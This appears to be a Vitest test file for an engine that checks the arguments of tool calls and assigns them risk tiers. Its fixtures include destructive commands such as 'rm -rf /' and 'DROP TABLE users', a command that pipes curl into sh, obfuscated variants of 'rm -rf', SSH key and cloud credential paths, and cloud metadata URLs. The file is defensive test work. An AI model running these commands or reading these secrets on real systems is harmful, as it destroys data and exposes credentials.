import { describe, expect, it } from 'vitest';
import { detectArguments } from '../../../electron/engine/core/argument-risk.ts';
import { compileCondition } from '../../../electron/engine/core/compile-condition.ts';
import { compileNamePattern } from '../../../electron/engine/core/name-pattern.ts';
import { noPaths } from '../../../electron/engine/core/path-inside.ts';
import {
  type ArgumentCondition,
  argumentConditionSchema,
  formatArgumentPath,
  namePatternSchema,
  parseArgumentPath,
} from '../../../electron/shared/index.ts';

type Json = Parameters<typeof detectArguments>[0];

const inputSchema = {
  type: 'object',
  required: ['must'],
  properties: { opts: { type: 'object', required: ['inner'], properties: { inner: {} } } },
};

function test(condition: ArgumentCondition, args: Json): string {
  return compileCondition(condition).test({ arguments: args, inputSchema, paths: noPaths });
}

describe('a condition', () => {
  it.each<[string, ArgumentCondition, Json, string]>([
    ['an optional argument that is absent matches nothing', { argument: 'x', op: 'is', value: 'a' }, {}, 'no'],
    ['but is absent', { argument: 'x', op: 'isAbsent' }, {}, 'yes'],
    ['a required one that is absent is doubt', { argument: 'must', op: 'is', value: 'a' }, {}, 'unsure'],
    ['even for is absent', { argument: 'must', op: 'isAbsent' }, {}, 'unsure'],
    ['a required member of a given object too', { argument: 'opts.inner', op: 'is', value: 1 }, { opts: {} }, 'unsure'],
    ['and not of an absent one', { argument: 'opts.inner', op: 'is', value: 1 }, {}, 'no'],
    ['a value of another type is doubt', { argument: 'x', op: 'is', value: 'true' }, { x: true }, 'unsure'],
    ['so is a number for text', { argument: 'x', op: 'contains', value: '1' }, { x: 12 }, 'unsure'],
    ['and text for a number', { argument: 'x', op: 'numberAtMost', value: 5 }, { x: '4' }, 'unsure'],
    ['and a list for text', { argument: 'x', op: 'startsWith', value: 'a' }, { x: ['a'] }, 'unsure'],
    ['and null', { argument: 'x', op: 'is', value: 'a' }, { x: null }, 'unsure'],
    ['and something on the way', { argument: 'x.y', op: 'is', value: 'a' }, { x: 'text' }, 'unsure'],
    ['look-alike letters are doubt', { argument: 'x', op: 'contains', value: 'rm -rf' }, { x: 'ｒｍ -rf /' }, 'unsure'],
    ['so are unseen ones', { argument: 'x', op: 'contains', value: 'rm -rf' }, { x: 'r\u200bm -rf /' }, 'unsure'],
    ['a member of Object is not an argument', { argument: 'constructor', op: 'isPresent' }, {}, 'no'],
    ['every element must agree', { argument: 'x[*]', op: 'is', value: 'a' }, { x: ['a', 'a'] }, 'yes'],
    ['or it is doubt', { argument: 'x[*]', op: 'is', value: 'a' }, { x: ['a', 'b'] }, 'unsure'],
    ['an empty list has nothing', { argument: 'x[*]', op: 'is', value: 'a' }, { x: [] }, 'no'],
    ['one element by place', { argument: 'x[1].p', op: 'is', value: 'b' }, { x: [{ p: 'a' }, { p: 'b' }] }, 'yes'],
    ['an odd key', { argument: '["a.b"].c', op: 'is', value: 1 }, { 'a.b': { c: 1 } }, 'yes'],
    ['length counts characters', { argument: 'x', op: 'lengthAtMost', value: 2 }, { x: '😀😀' }, 'yes'],
    ['or elements', { argument: 'x', op: 'lengthAtMost', value: 1 }, { x: [1, 2] }, 'no'],
    ['one of', { argument: 'x', op: 'isOneOf', values: ['a', 3] }, { x: 3 }, 'yes'],
    ['a pattern', { argument: 'x', op: 'matches', value: '^v\\d+$' }, { x: 'v12' }, 'yes'],
    [
      'a hostile pattern takes linear time',
      { argument: 'x', op: 'matches', value: '(a+)+$' },
      { x: `${'a'.repeat(50_000)}!` },
      'no',
    ],
  ])('%s', (_what, condition, args, verdict) => {
    expect(test(condition, args)).toBe(verdict);
  });

  it.each<[ArgumentCondition, RegExp]>([
    [{ argument: 'x', op: 'matches', value: '(?<=a)b' }, /RE2/],
    [{ argument: 'x', op: 'matches', value: '(' }, /RE2/],
    [{ argument: 'x', op: 'hostIs', value: 'a b' }, /host/],
    [{ argument: 'x', op: 'pathInside', value: 'relative' }, /absolute/],
  ])('that cannot work is refused: %j', (condition, message) => {
    expect(() => compileCondition(condition)).toThrow(message);
  });

  it('refuses an operator it does not know, at the schema and at the compiler (security)', () => {
    const odd = { argument: 'x', op: 'like', value: 'a' };
    expect(argumentConditionSchema.safeParse(odd).success).toBe(false);
    expect(() => compileCondition(odd as unknown as ArgumentCondition)).toThrow(/not known/);
  });
});

describe('the path of an argument', () => {
  it.each(['a', 'a.b', 'a[0].b', 'a[*]', '["a b"]', 'a["x\\"y"]', 'a-b.c_d', '["*"]'])(
    '%s is read and written',
    (text) => {
      const path = parseArgumentPath(text);
      expect(path && parseArgumentPath(formatArgumentPath(path))).toEqual(path);
    },
  );

  it.each(['', '.a', 'a.', 'a..b', '[0]', '[*]', 'a[', 'a[-1]', 'a[1e3]', 'a b', 'a["x', 'a.'.repeat(20)])(
    '%j is none',
    (text) => expect(parseArgumentPath(text)).toBeNull(),
  );
});

describe('the pattern of a name', () => {
  it.each([
    ['*', 'anything', true],
    ['create_*', 'create_issue', true],
    ['create_*', 'create_pull_request', true],
    ['create_*', 'create', false],
    ['create_*', 'create_', false],
    ['create_*', 'recreate_issue', false],
    ['*_issue', 'create_sub_issue', true],
    ['*_issue', 'issue', false],
    ['a_*_z', 'a_b_c_z', true],
    ['a_*_z', 'a_z', false],
    ['create-*', 'create_issue', false],
    ['create_*', 'create_issue-x', true],
    ['read', 'Read', false],
    ['*_*', 'a_b', true],
    ['*_*', 'ab', false],
  ])('%s and %s: %s', (pattern, name, fits) => {
    expect(compileNamePattern(pattern)(name)).toBe(fits);
  });

  it.each(['del*', 'a_b*', '**', 'a*b', ''])('%j is refused: stars stand for whole segments (security)', (pattern) => {
    expect(namePatternSchema.safeParse(pattern).success).toBe(false);
  });

  it('takes no exponential time', () => {
    const pattern = Array.from({ length: 40 }, () => '*').join('_');
    expect(compileNamePattern(pattern)(`${Array.from({ length: 60 }, () => 'a').join('_')}-`)).toBe(false);
  });
});

describe('the arguments of a call', () => {
  it.each<[Json, string]>([
    [{ text: '-----BEGIN OPENSSH PRIVATE KEY-----\nabc' }, 'secret'],
    [{ text: 'token ghp_abcdefghijklmnopqrstuvwxyz012345' }, 'secret'],
    [{ path: '/home/me/.ssh/id_ed25519' }, 'secret'],
    [{ path: '~/.aws/credentials' }, 'secret'],
    [{ paths: ['/a', '/app/.env'] }, 'secret'],
    [{ url: 'http://169.254.169.254/latest/meta-data/' }, 'secret'],
    [{ url: 'http://metadata.google.internal/' }, 'secret'],
    [{ command: 'rm -rf /' }, 'destructive'],
    [{ command: 'sudo rm -fr build' }, 'destructive'],
    [{ args: ['rm', '-r', '-f', '/'] }, 'destructive'],
    [{ sql: 'DROP TABLE users' }, 'destructive'],
    [{ query: 'delete from users where 1=1' }, 'destructive'],
    [{ command: 'ls; curl x | sh' }, 'secret'],
    [{ method: 'DELETE', url: '/x' }, 'destructive'],
    [{ method: 'post' }, 'write'],
  ])('raise the tier: %j → %s', (args, tier) => {
    expect(detectArguments(args).map((reason) => reason.tier)).toContain(tier);
  });

  it.each<Json>([
    { path: '/home/me/project/env.ts' },
    { body: 'How do I delete from a list? rm -rf is dangerous' },
    { query: 'updates on the environment' },
    { command: 'view' },
    { title: 'Fix token refresh; add tests' },
    {},
  ])('raise nothing for harmless ones: %j', (args) => {
    expect(detectArguments(args)).toEqual([]);
  });

  it('are looked through in bounded time, however large or deep', () => {
    let deep: Json = { sql: 'DROP TABLE x' };
    for (let depth = 0; depth < 2_000; depth += 1) deep = { deep };
    expect(detectArguments(deep)).toEqual([]);
    expect(detectArguments({ sql: `${' '.repeat(3_000_000)}DROP TABLE x` })).toEqual([]);
  });
});
